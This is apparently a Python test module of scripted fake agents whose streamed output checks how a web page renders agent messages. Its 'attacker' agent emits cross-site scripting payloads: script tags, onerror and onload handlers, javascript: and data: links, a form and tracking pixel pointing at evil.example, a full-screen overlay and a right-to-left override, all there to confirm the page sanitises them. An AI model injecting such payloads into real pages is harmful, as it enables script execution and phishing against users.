"""Agents for tests of the page: each says something that a page has to show well.

Neighbours: `conftest` serves them all; they run inside the daemon. The plain ones are those of
`tests/e2e/agents.py`.
Invariant: an agent waits for nothing but a file that its test makes, named last in the message,
or an answer of a person.
"""

from __future__ import annotations

import time
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Final

import anyio
import msgspec

from dispatch.agents.port import Respond, TurnRequest
from dispatch.core.events import (
    AgentEvent,
    ReasoningDelta,
    Request,
    RequestQuestion,
    StepComplete,
    TextDelta,
    TokenUsage,
    ToolCall,
    ToolOutput,
    ToolResult,
    Usage,
)

ROOT: Final = Path(__file__).resolve().parent.parent.parent
# Another process tells by a file: there is no event to wait for.
POLL_SECONDS: Final = 0.005
DELTAS_PER_SECOND: Final = 200

BEGINNING: Final = "Once upon a time there was a broker"
END: Final = "and it lived happily ever after."

THOUGHT: Final = "The seal has to be decided by one writer. Let me look at the code first."

CODE: Final = '''```python
def seal(turn: Turn) -> None:
    """Every started turn ends exactly once."""
    if turn.phase is not Phase.RUNNING:
        raise Conflict(turn.id)
    turn.phase = Phase.SEALED  # compare and set
```
'''

HOSTILE: Final = f"""<script>window.taken = "script"</script>

<img src=x onerror="window.taken = 'img'"> <svg onload="window.taken = 'svg'"></svg>
<iframe src="javascript:window.taken='iframe'"></iframe> <style>body {{ display: none }}</style>
<form action="https://evil.example/"><input name="q"><button>Send it</button></form>
<a href="javascript:window.taken='raw'" id="raw">raw link</a>
<math><mi xlink:href="data:x">m</mi></math>

[marked link](javascript:window.taken='marked') [data link](data:text/html,<script>taken=1</script>)
[honest link](https://example.org/page) ![a picture](https://evil.example/pixel.png)

<div id="app" class="composer" style="position:fixed;inset:0">over everything</div>

\u202eright to left override\u202c and مرحبا بالعالم, שלום עולם.

{"unbroken" * 2_500}

```html
<script>window.taken = "fence"</script>
```
"""


async def _opened(request: TurnRequest) -> None:
    path = anyio.Path(request.message.split()[-1])
    while not await path.exists():
        await anyio.sleep(POLL_SECONDS)


async def storyteller(request: TurnRequest) -> AsyncIterator[AgentEvent]:
    """Says half of something, waits, and says the rest."""
    for word in BEGINNING.split():
        yield TextDelta(f"{word} ")
        await anyio.sleep(POLL_SECONDS)
    await _opened(request)
    for word in END.split():
        yield TextDelta(f"{word} ")
        await anyio.sleep(POLL_SECONDS)


async def worker(request: TurnRequest) -> AsyncIterator[AgentEvent]:
    """Thinks, uses tools of which one fails, and answers with everything that markdown has."""
    for word in THOUGHT.split():
        yield ReasoningDelta(f"{word} ")
        await anyio.sleep(POLL_SECONDS)
    yield ToolCall("call-1", "search", msgspec.Raw(b'{"query":"def seal","limit":20}'), "s1")
    yield ToolOutput("call-1", "core/turn.py:41\n", "stdout")
    yield ToolResult("call-1", "search", "core/turn.py:41\nruntime/seal.py:12", False, "s1", 42.0)
    yield ToolCall("call-2", "run_tests", msgspec.Raw(b'{"path":"tests/core"}'), "s1")
    yield ToolResult("call-2", "run_tests", "1 failed, 41 passed", True, "s1", 1_800.0)
    yield Usage(TokenUsage(1_200, 340), "s1")
    yield StepComplete("s1", 120.0, 900.0, 1_020.0)
    yield TextDelta("## What I found\n\nA turn is sealed by a **compare-and-set**, so ")
    yield TextDelta(
        "it happens *once*:\n\n1. the writer reads the phase,\n2. it writes the seal.\n"
    )
    yield TextDelta(f"\n{CODE}\n")
    yield TextDelta(
        "| outcome | kept |\n|---|---|\n| completed | all |\n| aborted | what was said |\n"
    )
    yield TextDelta(
        "\n> Nothing that was shown is taken back.\n\nSee [the page](https://example.org/)."
    )
    yield Usage(TokenUsage(1_500, 410), "s2")
    yield StepComplete("s2", 80.0, 1_400.0, 1_480.0)


async def stepper(request: TurnRequest) -> AsyncIterator[AgentEvent]:
    """Asks its model twice: uses a tool, waits in the middle of it, and says what came of it."""
    yield ReasoningDelta("It must be somewhere.")
    yield ToolCall("call-1", "search", msgspec.Raw(b'{"query":"the needle"}'), "s1")
    yield ToolOutput("call-1", "half of the haystack\n", "stdout")
    await _opened(request)
    yield ToolResult("call-1", "search", "the whole haystack", False, "s1", 42.0)
    yield Usage(TokenUsage(1_200, 340), "s1")
    yield StepComplete("s1", 120.0, 900.0, 1_020.0)
    yield TextDelta("There is the needle.")
    yield Usage(TokenUsage(1_500, 41), "s2")
    yield StepComplete("s2", 80.0, 1_400.0, 1_480.0)


async def scholar(request: TurnRequest) -> AsyncIterator[AgentEvent]:
    """Says which of its models was asked, and what kinds of pictures it was shown."""
    kinds = ", ".join(image.mime_type or "?" for image in request.images) or "none"
    yield TextDelta(f"model {request.model}; pictures {kinds}")


async def interviewer(request: TurnRequest) -> AsyncIterator[AgentEvent]:
    """Asks three questions and says what was answered."""
    yield Request(
        "ask-2",
        "input",
        "Before I start",
        "Three short questions.",
        questions=(
            RequestQuestion("name", "Name of the branch", "text", required=True),
            RequestQuestion(
                "kind",
                "Kind of change",
                "choice",
                options=("A fix", "Something new"),
            ),
            RequestQuestion("tests", "Run the tests", "boolean"),
        ),
    )
    given = await request.inbox.receive()
    assert isinstance(given, Respond)
    answers = msgspec.json.encode(given.response.answers).decode()
    yield TextDelta(f"answered: {given.response.action} {answers}")


async def attacker(request: TurnRequest) -> AsyncIterator[AgentEvent]:
    """Says what a page must not believe; as many kilobytes of code besides as the message asks."""
    kilobytes = int(request.message.split()[-1])
    for start in range(0, len(HOSTILE), 512):
        yield TextDelta(HOSTILE[start : start + 512])
    yield ToolCall("call-1", "<b>tool</b>", msgspec.Raw(b'{"html":"<script>taken=1</script>"}'))
    yield ToolResult("call-1", "<b>tool</b>", "<img src=x onerror='taken=1'>", False)
    if kilobytes:
        yield TextDelta("\n```js\n")
        line = 'const text = "</code></pre><script>window.taken = 1</script>";  // 0123456789\n'
        for _ in range(kilobytes * 1024 // len(line)):
            yield TextDelta(line)
        yield TextDelta("```\n")
    yield TextDelta("\nThat was all.")


async def torrent(request: TurnRequest) -> AsyncIterator[AgentEvent]:
    """Markdown at the rate of a fast model, for as many seconds as the message says."""
    words = (
        "Some **bold** ",
        "words and `code` ",
        "about a [thing](https://example.org). ",
        "\n\n",
    )
    seconds = float(request.message.split()[-1])
    start = time.monotonic()
    for number in range(int(seconds * DELTAS_PER_SECOND)):
        yield TextDelta(words[number % len(words)] if number % 40 else f"\n\n## Part {number}\n\n")
        ahead = (number + 1) / DELTAS_PER_SECOND - (time.monotonic() - start)
        await anyio.sleep(max(0.0, ahead))
    yield TextDelta("\n\nThat was all.")


def config(more: str = "") -> str:
    """All of them beside a quick echo, which is the default; `more` is put before the agents."""
    own = ("storyteller", "worker", "stepper", "scholar", "interviewer", "attacker", "torrent")
    plain = ("asking", "failing", "endless", "steered")
    targets = [(name, "tests.web.speakers") for name in own]
    targets += [(name, "tests.e2e.agents") for name in plain]
    tables = [
        f'[agents.{name}]\nkind = "python"\ntarget = "{module}:{name}"\npath = "{ROOT}"\n'
        + {"steered": "steer = true\n", "scholar": 'models = ["small", "large"]\n'}.get(name, "")
        for name, module in targets
    ]
    echoes = "".join(
        f'[agents.{name}]\nkind = "echo"\ndelay_ms = {delay}\n\n'
        for name, delay in (("echo", 2), ("parrot", 4), ("mimic", 6))
    )
    return f'default_agent = "echo"\n{more}\n{echoes}' + "\n".join(tables)
